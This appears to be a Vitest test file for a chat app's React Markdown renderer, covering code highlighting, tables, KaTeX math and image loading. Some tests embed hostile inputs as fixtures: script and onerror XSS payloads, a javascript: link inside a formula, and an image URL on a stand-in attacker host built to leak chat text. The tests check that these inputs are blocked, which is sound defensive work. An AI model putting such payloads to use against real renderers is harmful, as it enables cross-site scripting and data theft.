import { renderToStaticMarkup } from 'react-dom/server';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadHighlight, loadMath, Markdown, MarkdownCache } from './Markdown';
import { mayLoadImage } from './MarkdownImage';

describe('Markdown', () => {
  it('renders markdown with highlighted code and a copy button', async () => {
    // highlight.js is its own chunk, loaded once an answer with code has been drawn (Markdown.upgrade.test.tsx).
    await loadHighlight();
    const html = renderToStaticMarkup(
      <Markdown text={'# Title\n\nSome **bold** text.\n\n```js\nconst x = "y";\n```\n'} />,
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('hljs-keyword');
    expect(html).toContain('aria-label="Copy code"');
  });

  it('does not render raw HTML from the model', () => {
    const html = renderToStaticMarkup(<Markdown text={'<script>alert(1)</script><img src=x onerror=alert(1)>'} />);
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
  });
});

describe('Markdown images', () => {
  it('turns a remote image into a link with its alt text: the browser fetches nothing', () => {
    const html = renderToStaticMarkup(
      <Markdown text={'Here: ![the chart](https://evil.example/leak?q=secret%20chat%20text "Chart")'} />,
    );
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/leak?q=secret%20chat%20text"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('the chart');
    expect(html).toContain('evil.example');
  });

  it('also links protocol-relative remote images instead of loading them', () => {
    const html = renderToStaticMarkup(<Markdown text={'![x](//evil.example/a.png)'} />);
    expect(html).not.toContain('<img');
  });

  it('loads same-origin and raster data images', () => {
    const pixel = 'data:image/png;base64,iVBORw0KGgo=';
    const html = renderToStaticMarkup(<Markdown text={`![local](/v1/image/abc) ![pixel](${pixel})`} />);
    expect(html).toContain('<img src="/v1/image/abc" alt="local"');
    expect(html).toContain(`<img src="${pixel}" alt="pixel"`);
  });
});

describe('mayLoadImage', () => {
  it('allows this origin and raster data URLs only', () => {
    const origin = 'https://switchyard.example';
    expect(mayLoadImage('/files/a.png', origin)).toBe(true);
    expect(mayLoadImage('https://switchyard.example/files/a.png', origin)).toBe(true);
    expect(mayLoadImage('data:image/png;base64,AAAA', origin)).toBe(true);
    expect(mayLoadImage('https://evil.example/a.png', origin)).toBe(false);
    expect(mayLoadImage('//evil.example/a.png', origin)).toBe(false);
    expect(mayLoadImage('http://switchyard.example/a.png', origin)).toBe(false);
    expect(mayLoadImage('data:image/svg+xml,<svg/>', origin)).toBe(false);
  });
});

describe('GitHub-flavoured Markdown, math and highlighting', () => {
  beforeAll(async () => {
    // KaTeX is its own chunk, loaded when an answer first holds a `$`; highlight.js too, after the first answers.
    await Promise.all([loadMath(), loadHighlight()]);
  });

  it('keeps the cached trees of answers with and without math', () => {
    const cache = new MarkdownCache();
    const plain = cache.get('a', 'no math here');
    expect(cache.get('a', 'no math here')).toBe(plain);
    const math = cache.get('b', 'area $\\pi r^2$');
    expect(renderToStaticMarkup(math)).toContain('class="katex"');
    expect(cache.get('b', 'area $\\pi r^2$')).toBe(math);
  });

  it('renders tables, task lists and strikethrough', () => {
    const html = renderToStaticMarkup(
      <Markdown text={'| Model | Speed |\n| --- | ---: |\n| fast | 9 |\n\n- [x] done\n- [ ] open\n\n~~old~~ new'} />,
    );
    expect(html).toContain('<table>');
    expect(html).toContain('<th>Model</th>');
    expect(html).toContain('<td style="text-align:right">9</td>');
    expect(html).toContain('class="markdown-table"');
    expect(html).toMatch(/<input type="checkbox" disabled="" checked=""\/> ?done/);
    expect(html).toMatch(/<input type="checkbox" disabled=""\/> ?open/);
    expect(html).toContain('<del>old</del>');
  });

  it('typesets inline and display math with KaTeX', () => {
    const html = renderToStaticMarkup(<Markdown text={'Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\int_0^1 x\\,dx\n$$'} />);
    expect(html).toContain('class="katex"');
    expect(html).toContain('class="katex-display"');
    // MathML for screen readers, next to the drawn formula.
    expect(html).toContain('<math');
    expect(html).not.toContain('$e^');
  });

  it('keeps a formula that does not parse readable instead of throwing', () => {
    const html = renderToStaticMarkup(<Markdown text={'$\\frac{1}{$'} />);
    expect(html).toContain('katex-error');
  });

  it('does not let a formula link anywhere (\\href stays inert)', () => {
    const html = renderToStaticMarkup(<Markdown text={'$\\href{javascript:alert(1)}{x}$'} />);
    expect(html).not.toMatch(/href="javascript/);
    expect(html).not.toContain('<a ');
  });

  it('highlights code without a language tag by detecting it, and names the language', () => {
    const html = renderToStaticMarkup(
      <Markdown text={'```\ndef greet(name):\n    return f"Hello {name}"\n\nprint(greet("x"))\n```'} />,
    );
    expect(html).toContain('language-python');
    expect(html).toContain('hljs-keyword');
    expect(html).toContain('>python</span>');
  });

  it('leaves a block tagged text plain', () => {
    const html = renderToStaticMarkup(<Markdown text={'```text\ndef greet(name): return name\n```'} />);
    expect(html).not.toContain('hljs-keyword');
  });
});
